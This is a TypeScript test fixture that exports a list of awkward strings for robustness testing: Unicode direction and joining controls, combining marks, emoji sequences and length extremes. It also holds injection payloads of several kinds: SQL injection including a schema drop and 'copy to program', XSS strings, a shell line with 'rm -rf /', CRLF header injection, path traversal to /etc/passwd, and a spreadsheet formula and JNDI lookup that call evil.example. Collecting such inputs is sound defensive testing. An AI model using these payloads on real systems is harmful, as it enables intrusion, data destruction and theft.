import { hostileTexts } from './hostile-texts.js';

const ofCode = (...codes: number[]): string => String.fromCodePoint(...codes);

/** More ways to break software than `hostile-texts.ts` has: each is kept to the last code point, or refused. */
const more: readonly string[] = [
  // Where text turns round, joins or hides.
  '\u{202D}left to right override\u{202C}',
  '\u{2066}isolate \u{2067}in isolate\u{2069}\u{2069}',
  '\u{200F}עברית and العربية\u{200E}',
  'soft\u{AD}hyphen',
  'join\u{200D}er and non\u{200C}joiner',
  'word\u{2060}joiner',
  'no\u{A0}break\u{202F}space\u{3000}wide',
  'line\u{2028}separator\u{2029}paragraph',
  'vertical\u{B}tab\u{C}feed\u{85}next line',
  'bell\u{7} backspace\u{8} escape\u{1B}[31mred\u{1B}[0m delete\u{7F}',
  'tag\u{E0041}\u{E007F} characters',
  'variation\u{FE0F} \u{FE0E}selectors',
  // Letters that change their length or their identity.
  'ﬁ ﬂ ﬀ ligatures',
  'Ⅷ ½ ① ℡ ㎏',
  'Ǆ ǅ ǆ title case',
  'ΣΊΣΥΦΟΣ final sigma ς',
  'I ı İ i dotted',
  'e\u{301} is not é',
  '가 각 \u{1100}\u{1161}',
  '\u{1F1}\u{1F2}\u{1F3}',
  'a\u{300}'.repeat(60),
  // Emoji beyond the first plane, joined, coloured and keyed.
  '👍🏽 👩🏿‍🚀 🧑🏻‍🤝‍🧑🏾',
  '#️⃣ 1️⃣ 🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  '\u{10FFFD} private plane',
  '\u{10FFFF}',
  // For those who build statements from strings.
  `' or 1=1 --`,
  `"; select pg_sleep(10); --`,
  `') union select secret from sessions --`,
  `$$; drop schema public cascade; $$`,
  `\\'; copy people to program 'id'; --`,
  `{"$ne": null}`,
  '%_\\%\\_',
  ':name $1 ? @p',
  `E'\\x41'`,
  // For those who build pages from strings.
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '[click](javascript:alert(1))',
  '<!--[if IE]>--><![CDATA[ ]]>',
  '</title></textarea></script>',
  '&amp;&lt;&#x3C;&nbsp;',
  'javascript:alert(1)',
  '<style>@import "//evil.example"</style>',
  // For spreadsheets, shells, templates, headers and logs.
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '\t=1+1',
  '\r=1+1',
  '"quoted","cells"\n"and lines"',
  ';|&& rm -rf / #',
  '%{(#a=1)} #{7*7} <%= 7*7 %> {% raw %}',
  'X-Header: yes\r\n\r\n<html>',
  '%0d%0aSet-Cookie: a=b',
  '..\\..\\windows\\system32 C:\\con file:///etc/passwd',
  '${jndi:ldap://evil.example/a}',
  // What parsers take for something else.
  '{"__proto__":{"admin":true}}',
  '[]',
  '{}',
  '-0',
  '0x1F 1_000 1e309 Infinity',
  '2026-02-30T25:61:61Z',
  'hasOwnProperty toString valueOf',
  '\\u0000 \\x00 written out',
  // What cannot be kept, at the front, at the end and the wrong way round.
  '\0',
  'ends in \0',
  '\u{DC00}\u{D800} swapped',
  `ends in ${ofCode(0xd83d)}`,
  // Lengths about every limit there is.
  ...[40, 41, 100, 101, 200, 201, 500, 501, 1_000, 1_001, 2_000, 2_001, 4_000, 4_001].map((length) =>
    'x'.repeat(length),
  ),
  '\u{1F600}'.repeat(2_000),
  'é'.repeat(4_000),
];

export const naughtyTexts: readonly string[] = [...new Set([...hostileTexts, ...more])];
